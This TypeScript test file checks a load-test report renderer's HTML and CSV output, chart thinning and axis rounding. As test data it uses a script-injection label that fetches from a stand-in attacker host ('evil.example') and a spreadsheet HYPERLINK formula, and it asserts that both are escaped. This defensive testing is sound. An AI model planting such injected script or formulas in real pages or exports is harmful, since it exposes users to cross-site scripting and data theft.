/**
 * The report renderer on a made-up summary: hostile label names stay text (HTML and CSV), the
 * report has no network reference, charts thin their points keeping spikes, axes end on round
 * numbers, and a run without results still renders.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { LabelSummary, TimeStats } from '@dlt/model';
import { statsCsv, timelineCsv } from './report-csv.ts';
import { type ReportSummary, renderReportHtml } from './report-html.ts';
import { lineChart, niceCeil, thin } from './svg-chart.ts';

const times = (p95: number): TimeStats => ({
  min: 1,
  mean: 5,
  p50: 4,
  p90: 8,
  p95,
  p99: 12,
  'p99.9': 15,
  max: 20,
  stdev: 2,
});
const label = (requests: number, failures: number, p95 = 9): LabelSummary => ({
  requests,
  failures,
  rps: requests / 10,
  bytesReceived: requests * 100,
  bytesSent: requests * 50,
  bandwidth: requests * 10,
  responseTime: times(p95),
  latency: times(p95),
  connectTime: times(1),
  statusCodes: { '200': requests - failures, '500': failures },
  errors: {},
});
const evil = '<script>fetch("https://evil.example/x")</script>';
const summary = (p95: number): ReportSummary => ({
  startedAt: '2026-05-10T12:00:00.000Z',
  endedAt: '2026-05-10T12:00:10.000Z',
  durationMs: 10_000,
  totals: label(100, 5, p95),
  labels: { [evil]: label(60, 5, p95), '=HYPERLINK("x")': label(40, 0, p95) },
  statusCodes: { '200': 95, '500': 5 },
  errors: {},
  iterations: 100,
  droppedIterations: 0,
  vusMax: 4,
  thresholds: { 'http_req_duration: p(95)<10': { ok: p95 < 10, actual: p95 } },
  regions: {},
  timeline: Array.from({ length: 10 }, (_, i) => ({
    at: Date.parse('2026-05-10T12:00:00Z') + i * 1000,
    requests: 10,
    failures: i === 3 ? 5 : 0,
    bytesReceived: 1000,
    vus: 4,
    responseTime: { min: 1, mean: 5, p50: 4, p90: 8, p95: p95, p99: 12, max: 20 },
    regions: {},
  })),
});

test('hostile label names stay text in the HTML, and nothing in it reaches the network', () => {
  const html = renderReportHtml({
    title: 'a <b> test',
    status: 'complete',
    summary: summary(12),
    baseline: { runId: 'B1', summary: summary(8) },
  });
  assert.ok(!html.includes('<script'), 'no script element');
  assert.match(html, /&lt;script&gt;fetch\(&quot;https:\/\/evil.example\/x&quot;\)&lt;\/script&gt;/);
  assert.match(html, /<h1>a &lt;b&gt; test<\/h1>/);
  assert.doesNotMatch(html, /\b(src|href)\s*=|url\(|@import|<link/i);
  assert.match(html, /Content-Security-Policy" content="default-src 'none'/);
  assert.match(html, /<span class="bad">crossed<\/span>/, 'the crossed threshold');
  assert.match(html, /<span class="bad">\+4\.00ms \(\+50\.0%\)<\/span>/, 'p95 got worse than the baseline');
});

test('CSV: quoted where needed, formulas kept as text, the timeline per second', () => {
  const rows = statsCsv(summary(9)).trim().split('\r\n');
  assert.equal(rows.length, 4);
  assert.ok(rows[2].startsWith('label,"<script>fetch(""https://evil.example/x"")</script>",60,5,'), rows[2]);
  assert.ok(rows[3].startsWith(`label,"'=HYPERLINK(""x"")",40,0,`), rows[3]);
  const seconds = timelineCsv(summary(9)).trim().split('\r\n');
  assert.equal(seconds.length, 11);
  assert.equal(seconds[4], '2026-05-10T12:00:03.000Z,all,10,5,4,5,4,9,12,20');
});

test('charts: thinning keeps the spike, axes end on round numbers, empty runs still render', () => {
  const points = Array.from({ length: 1000 }, (_, i) => [i, i === 501 ? 99 : 1] as const);
  const thinned = thin(points, 100);
  assert.equal(thinned.length, 100);
  assert.ok(thinned.some(([, v]) => v === 99));
  assert.deepEqual(
    [0.3, 1, 3, 7, 12, 180, 4100].map((v) => niceCeil(v)),
    [0.5, 1, 5, 10, 20, 200, 5000],
  );
  // Users come whole: 2 VUs gave the ticks 0, 0.5, 1, 1.5, 2, shown as 0, 1, 1, 2, 2.
  assert.deepEqual(
    [0.3, 0.5, 1.5, 2.5, 7, 25].map((v) => niceCeil(v, true)),
    [1, 1, 2, 5, 10, 25],
  );
  const vus = lineChart(
    [
      {
        name: 'all',
        points: [
          [0, 0],
          [1, 2],
          [2, 2],
        ],
      },
    ],
    {
      title: 'Virtual users',
      format: (v) => String(v),
      integer: true,
    },
  );
  const ticks = [...vus.matchAll(/class="tick" text-anchor="end">([^<]*)</g)].map((m) => m[1]);
  assert.deepEqual(ticks, ['0', '1', '2', '3', '4']);
  const html = renderReportHtml({ title: 't', status: 'failed', errorReason: 'task T1 failed' });
  assert.match(html, /this run has no results/);
  assert.match(html, /task T1 failed/);
});

test('several regions: a line per region in the charts and a row per region in the tables', () => {
  const one = summary(9);
  const regionSecond = { requests: 5, failures: 0, vus: 2, responseTime: one.timeline?.[0].responseTime ?? times(9) };
  const two: ReportSummary = {
    ...one,
    regions: { 'eu-west': one, 'us-east': one },
    timeline: (one.timeline ?? []).map((p) => ({
      ...p,
      regions: { 'eu-west': regionSecond, 'us-east': regionSecond },
    })),
  };
  const html = renderReportHtml({ title: 't', status: 'complete', summary: two });
  const requestsChart = /<svg class="chart"[^>]*aria-label="Requests per second">.*?<\/svg>/.exec(html)?.[0] ?? '';
  assert.deepEqual(
    [...requestsChart.matchAll(/<title>([^<]+)<\/title><\/path>/g)].map((m) => m[1]),
    ['all', 'eu-west', 'us-east'],
  );
  assert.match(html, /<th scope="row">eu-west<\/th>.*<th scope="row">us-east<\/th>/);
  assert.deepEqual(
    statsCsv(two)
      .split('\r\n')
      .slice(1, 4)
      .map((r) => r.split(',').slice(0, 2).join(' ')),
    ['total all', 'region eu-west', 'region us-east'],
  );
  assert.equal(timelineCsv(two).trim().split('\r\n').length, 1 + 10 * 3);
});
